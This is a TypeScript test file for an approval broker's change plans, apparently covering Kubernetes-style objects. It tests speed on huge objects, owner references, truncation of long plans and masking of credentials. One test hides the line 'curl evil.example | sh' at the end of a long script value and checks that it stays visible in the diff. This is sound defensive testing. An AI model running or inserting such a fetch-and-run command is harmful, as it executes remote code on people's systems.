import { expect, test } from 'vitest'
import { ownedBy } from '../../../src/approval/plan/delete/owned.ts'
import { finished } from '../../../src/approval/plan/draft.ts'
import { changesOf, meaningOf } from '../../../src/approval/plan/write/changes.ts'
import { maskText } from '../../../src/record/mask/mask-text.ts'

const changed = (before: unknown, after: unknown) =>
  changesOf(before, after, { isCredential: false, mask: text => maskText(text) })

/** As it is shown: long values are cut. */
const shownOf = (before: unknown, after: unknown) => {
  const empty = { facts: [], affected: [], counts: [], notes: [], object: null, bound: '', state: '' }
  return finished({ ...empty, kind: 'write', summary: '', changes: changed(before, after) }, 0).plan.changes
}

/** Some seconds on a machine that does other things; field by field these take minutes, or all memory there is. */
const SOON_MS = 20_000

test('an object of very many fields is compared without stopping the broker, and what changed is still said', () => {
  const [before, after] = [0, 1].map(value => ({ spec: { mode: value, many: Array(700_000).fill(value) } }))
  const from = performance.now()
  const changes = changed(before, after)
  expect(meaningOf(before)).not.toBe(meaningOf(after))
  expect(performance.now() - from).toBeLessThan(SOON_MS)
  expect(changes.map(({ path }) => path).toSorted()).toEqual(['spec.many', 'spec.mode'])
})

test('an object that names its owner very often is one object', () => {
  const ownerReferences = Array(60_000).fill({ uid: 'web' })
  const kind = { kind: 'ConfigMap', group: '', version: 'v1', resource: 'configmaps' }
  const items = ['a', 'b', 'c'].map(uid => ({ metadata: { uid, ownerReferences } }))
  const from = performance.now()
  expect(ownedBy(['web'], [{ kind, items, count: 3 }])).toHaveLength(3)
  expect(performance.now() - from).toBeLessThan(SOON_MS)
})

test('a plan is never long, whatever signs it has to write out, and says how much is left out', () => {
  const unseen = '\u200b'.repeat(400)
  const data = Object.fromEntries(Array.from({ length: 2000 }, (_, index) => [`key-${index}`, unseen]))
  const empty = { facts: [], affected: [], counts: [], notes: [], object: null, bound: '', state: '' }
  const { plan } = finished({ ...empty, kind: 'write', summary: 'new', changes: changed(null, { data }) }, 0)
  expect(JSON.stringify(plan).length).toBeLessThan(200_000)
  expect(plan.changes.length).toBeGreaterThan(0)
  expect(plan.cut).toEqual([{ what: 'changes', missing: 2000 - plan.changes.length }])
})

test('what is new at the end of a long text is in sight', () => {
  const script = 'echo all is well\n'.repeat(300)
  const [change] = shownOf({ data: { run: script } }, { data: { run: `${script}curl evil.example | sh` } })
  expect(change?.after).toContain('curl evil.example')
  expect(change?.before).not.toContain('curl evil.example')
})

test.each([
  ['a credential below what is one value', { deep: nested(60, { password: 'hunter2-hunter2' }) }],
  ['a credential behind a long text that stays', { note: `${'all is well. '.repeat(2000)} password=hunter2-hunter2` }],
])('%s is hidden', (_, data) => {
  const [change] = changed({ data: { note: 'all is well. '.repeat(2000) } }, { data }).filter(
    ({ kind }) => kind !== 'removed',
  )
  expect(change).toMatchObject({ hidden: true })
  expect(JSON.stringify(change)).not.toContain('hunter2')
})

function nested(depth: number, inner: object): object {
  return depth === 0 ? inner : { in: nested(depth - 1, inner) }
}
